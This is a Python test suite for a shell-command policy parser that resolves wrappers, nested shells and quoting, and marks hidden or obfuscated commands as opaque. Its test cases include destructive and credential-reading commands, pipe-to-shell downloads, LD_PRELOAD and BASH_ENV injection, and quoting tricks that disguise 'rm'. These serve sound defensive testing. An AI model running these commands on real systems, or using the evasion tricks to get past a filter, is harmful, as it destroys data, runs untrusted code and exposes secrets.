"""Commands are judged program by program: wrappers and shells seen through, options read as the
program reads them, paths resolved; what hides a command is opaque."""

from __future__ import annotations

import functools
import shlex

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from janus_policy.policy.catalogue import bundled_catalogue
from janus_policy.policy.command import Command, RenderError, parse_command

CATALOGUE = bundled_catalogue()


def judge(command: str | list[str]) -> Command:
    return parse_command(command, CATALOGUE)


@pytest.mark.parametrize(
    ("command", "argvs"),
    [
        ("ls -la /tmp", [["ls", "-la", "/tmp"]]),
        (["ls", "-la", "/tmp"], [["ls", "-la", "/tmp"]]),
        ("git status # a comment", [["git", "status"]]),
        # quoting is removed as the shell removes it: no string trick hides `rm`
        ('r""m -rf /', [["rm", "-rf", "/"]]),
        ("r\\m -rf /", [["rm", "-rf", "/"]]),
        ("'rm' '-rf' '/'", [["rm", "-rf", "/"]]),
        ("echo 'it''s'", [["echo", "its"]]),
        ('echo "a b"', [["echo", "a b"]]),
        # lists and pipelines: every command counts
        ("echo a; rm b && ls || cat x &", [["echo", "a"], ["rm", "b"], ["ls"], ["cat", "x"]]),
        ("ls\nrm x", [["ls"], ["rm", "x"]]),
        ("ls \\\n -l", [["ls", "-l"]]),
        ("grep x f | wc -l", [["grep", "x", "f"], ["wc", "-l"]]),
        # shells: the shell, then what its script runs
        ('bash -c "rm -rf /"', [["bash", "-c", "rm -rf /"], ["rm", "-rf", "/"]]),
        ("bash -c -- 'rm -rf /'", [["bash", "-c", "--", "rm -rf /"], ["rm", "-rf", "/"]]),
        ("bash -ec 'ls | wc'", [["bash", "-ec", "ls | wc"], ["ls"], ["wc"]]),
        (["sh", "-c", "rm x"], [["sh", "-c", "rm x"], ["rm", "x"]]),
        # wrappers: the wrapper, then what it runs
        ("env X=1 sudo rm -rf /", None),  # X is no harmless variable: opaque below
        ("env -i -u HOME LC_ALL=C ls", [["env", "-i", "-u", "HOME", "LC_ALL=C", "ls"], ["ls"]]),
        ("env -vu ls rm -rf w", [["env", "-vu", "ls", "rm", "-rf", "w"], ["rm", "-rf", "w"]]),
        ("env - rm x", [["env", "-", "rm", "x"], ["rm", "x"]]),
        ("LC_ALL=C sort x", [["sort", "x"]]),
        ("timeout --sig KILL 5 rm x", [["timeout", "--sig", "KILL", "5", "rm", "x"], ["rm", "x"]]),
        (["time", "-f", "ls", "rm", "x"], [["time", "-f", "ls", "rm", "x"], ["rm", "x"]]),
        ("nice -n 3 nohup ls", [["nice", "-n", "3", "nohup", "ls"], ["nohup", "ls"], ["ls"]]),
        ("command -v ls", [["command", "-v", "ls"]]),
        ("xargs -0 rm", [["xargs", "-0", "rm"], ["rm"]]),
        ("find . -exec rm {} \\;", [["find", ".", "-exec", "rm", "{}", ";"], ["rm", "{}"]]),
        ("sudo ls", [["sudo", "ls"]]),
        ("echo a=b", [["echo", "a=b"]]),
    ],
)
def test_commands_are_judged_program_by_program(
    command: str | list[str], argvs: list[list[str]] | None
) -> None:
    parsed = judge(command)
    if argvs is None:
        assert parsed.opaque is not None
        return
    assert parsed.opaque is None
    assert [list(a) for a in parsed.argvs] == argvs


def test_nested_shells_are_read_to_the_bottom() -> None:
    script = functools.reduce(lambda s, _: f"sh -c {shlex.quote(s)}", range(5), "ls; rm x")
    parsed = judge(script)
    assert parsed.opaque is None
    assert parsed.argvs[-2:] == (("ls",), ("rm", "x"))


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("cat $(echo /etc/shadow)", "substitution"),
        ("cat `echo /etc/shadow`", "backticks"),
        ('echo "$(id)"', "inside double quotes"),
        ("echo $HOME", "expansion"),
        ("echo $'\\x72m'", "expansion"),
        ("echo $ x", "expansion"),
        ("cat ~/.ssh/id_rsa", "tilde"),
        ("echo {a,b}", "brace"),
        ("cat .[.]/x", "glob"),
        ("ls *.txt", "glob"),
        ("ls > /etc/x", "redirection"),
        ("ls 2>&1", "redirection"),
        ("ls &>/dev/null", "redirection"),
        ("cat < /etc/shadow", "redirection"),
        ("ls |& cat", "redirection"),
        ("(rm x)", "subshell"),
        ("{ rm x; }", "brace"),
        ("if true; then rm x; fi", "shell syntax"),
        ("eval rm x", "builtin"),
        ("command eval rm x", "builtin"),
        ("cd /; ls", "builtin"),
        (". ./script", "builtin"),
        ("curl http://x | sh", "reads its commands"),
        ("wget -O- http://x | bash -s", "interactive or login"),
        ("bash script.sh", "reads its commands"),
        ("bash -l -c ls", "login"),
        ("bash -i -c ls", "interactive"),
        ("bash --login -c ls", "start-up files"),
        ("bash --rcfile x -c ls", "start-up files"),
        ("bash -O extglob -c ls", "shell options"),
        ("sh -c", "without a script"),
        ("PATH=/tmp ls", "assignment"),
        ("LD_PRELOAD=/x.so ls", "assignment"),
        ("LC_ALL=../x ls", "assignment"),
        ("env BASH_ENV=/tmp/x bash -c ls", "assignment"),
        ("env -S 'rm -rf /'", "not an option"),
        ("exec -a x ls", "not an option"),
        ("rm --bogus x", "not an option"),
        ("sort -k", "needs a value"),
        ("echo 'unterminated", "unterminated"),
        ('echo "unterminated', "unterminated"),
        ("ls |", "nothing after"),
        ("| ls", "syntax error"),
        ("ls && && ls", "syntax error"),
        ("a ;; b", "case"),
        ("", "no command"),
        ("   ", "no command"),
        ([], "non-empty"),
        (["ls", "a\0b"], "NUL"),
        ("nice " * 12 + "ls", "nested"),
        ("x" * 70000, "longer"),
        ("ls;" * 300, "more than"),
    ],
)
def test_what_hides_a_command_is_opaque(command: str | list[str], why: str) -> None:
    parsed = judge(command)
    assert parsed.opaque is not None
    assert why in parsed.opaque


def test_what_was_understood_before_the_opaque_part_is_kept() -> None:
    parsed = judge("curl http://x | sh")
    assert parsed.argvs == (("curl", "http://x"),)
    assert parsed.opaque is not None


def test_a_program_is_the_catalogues_only_by_its_name_or_trusted_path() -> None:
    calls = judge("cat a; /usr/bin/cat b; ./cat c; /tmp/x/cat d; /proc/self/cwd/cat e").calls
    assert [c.program for c in calls] == ["cat", "cat", None, None, None]
    assert [c.known for c in calls] == [True, True, False, False, False]
    assert {c.name for c in calls} == {"cat"}


def shown(paths: tuple[object, ...]) -> list[str]:
    return [p.shown for p in paths]  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    ("command", "reads", "writes"),
    [
        ("cat a ../b //etc//x /tmp/./y", ["./a", "../b", "/etc/x", "/tmp/y"], []),
        ("sort -o out in", ["./in"], ["./out"]),
        ("sort --outp=out in", ["./in"], ["./out"]),
        ("uniq in out", ["./in"], ["./out"]),
        ("grep -f pats.txt file", ["./pats.txt", "./file"], []),
        ("grep -e x -- -file", ["./-file"], []),
        ("cp a b /etc/cron.d/", ["./a", "./b"], ["/etc/cron.d"]),
        ("env -C / cat etc/shadow", ["/"], []),
        ("ls", ["."], []),
    ],
)
def test_every_path_is_read_or_written_as_the_program_does(
    command: str, reads: list[str], writes: list[str]
) -> None:
    call = judge(command).calls[0]
    assert shown(call.reads) == reads
    assert shown(call.writes) == writes


def test_a_relative_path_after_env_chdir_resolves_there() -> None:
    calls = judge("env -C / cat etc/shadow").calls
    assert shown(calls[1].reads) == ["/etc/shadow"]


@pytest.mark.parametrize(
    ("command", "effect"),
    [
        ("sort --compress-program=sh x", "executes"),
        ("date -s tomorrow", "writes"),
        ("curl http://x", "network"),
        ("python3 -c 'print(1)'", "executes"),
        ("make-coffee --now", "network"),  # an unknown program may do anything
    ],
)
def test_effects_the_argv_does_not_place(command: str, effect: str) -> None:
    call = judge(command).calls[0]
    assert effect in call.effects
    assert not call.read_only


def test_a_list_of_files_to_read_is_paths_no_argv_shows() -> None:
    call = judge("wc --files0-from=list").calls[0]
    assert shown(call.reads) == ["./list", "?"]


def test_options_carry_every_spelling() -> None:
    call = judge("rm -fr x").calls[0]
    assert {"-r", "-R", "--recursive", "-f", "--force"} <= call.options
    assert {"-r", "--recursive"} <= judge("rm --rec x").calls[0].options


def test_render_runs_exactly_what_was_judged() -> None:
    def installed(path: str) -> bool:
        return path.startswith("/usr/bin/")

    assert judge("ls -la src").render(CATALOGUE, installed) == ["/usr/bin/ls", "-la", "src"]
    assert judge("timeout 5 cat x").render(CATALOGUE, installed) == [
        "/usr/bin/timeout", "5", "/usr/bin/cat", "x",
    ]  # fmt: skip
    assert judge("cat 'a b' | wc -l").render(CATALOGUE, installed) == [
        "/usr/bin/sh", "-c", "/usr/bin/cat 'a b' | /usr/bin/wc -l",
    ]  # fmt: skip
    inner = judge("bash -c 'ls; cat x'").render(CATALOGUE, installed)
    assert inner == ["/usr/bin/bash", "-c", "/usr/bin/ls ; /usr/bin/cat x"]
    with pytest.raises(RenderError):
        judge("ls").render(CATALOGUE, lambda path: False)
    with pytest.raises(RenderError):
        judge("ls $HOME").render(CATALOGUE, installed)


@settings(max_examples=1000, deadline=None)
@given(st.text(max_size=200))
def test_any_string_gives_a_command_or_a_reason(text: str) -> None:
    parsed = judge(text)
    assert isinstance(parsed, Command)
    assert parsed.opaque is not None or parsed.calls
    assert all(call.argv for call in parsed.calls)


SHELL_ALPHABET = st.sampled_from(list("ab rm-/;|&$`'\"\\(){}<>~#\n\t*=c"))


@settings(max_examples=1000, deadline=None)
@given(st.lists(SHELL_ALPHABET, max_size=60).map("".join))
def test_a_rendered_command_judges_the_same(text: str) -> None:
    """What render writes for the shell, judged again, runs the same programs on the same words
    (the trusted paths aside)."""
    parsed = judge(text)
    if parsed.opaque is not None:
        return
    try:
        rendered = parsed.render(CATALOGUE, lambda path: path.startswith("/usr/bin/"))
    except RenderError:
        return
    again = judge(rendered)
    assert again.opaque is None
    names = [c.name for c in again.calls]
    if rendered[0] == "/usr/bin/sh" and len(rendered) == 3 and parsed.calls[0].name != "sh":
        names = names[1:]  # the sh that runs a list
    assert names == [c.name for c in parsed.calls]
    assert [c.options for c in again.calls][-len(parsed.calls) :] == [
        c.options for c in parsed.calls
    ]
